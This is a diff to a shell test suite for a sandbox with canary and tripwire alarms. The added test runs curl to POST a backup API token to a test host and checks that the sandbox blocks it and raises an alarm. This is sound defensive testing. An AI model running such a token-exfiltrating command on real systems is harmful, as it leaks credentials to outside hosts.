@@ -43,6 +43,9 @@ END
                 has "$who: with its code" "$(json '[.denials[] | .reason] | join(" ")')" "canary"
                 has "$who: and an alarm" "$(error)" "tripwire: "
         done
+        box $who --trip canaries --net 'http://web.test/** GET POST' -- sh -c 'curl -sS -m 10 --data "$BACKUP_API_TOKEN" http://web.test/a; true'
+        is "$who: a command that ends at once has failed too" "$status" 125
+        has "$who: with the alarm" "$(error)" "tripwire: "
         box $who --use base/python3 --trip canaries --net four.test:80 -- python3 -c '
 import os, socket, time
 s = socket.create_connection(("four.test", 80))
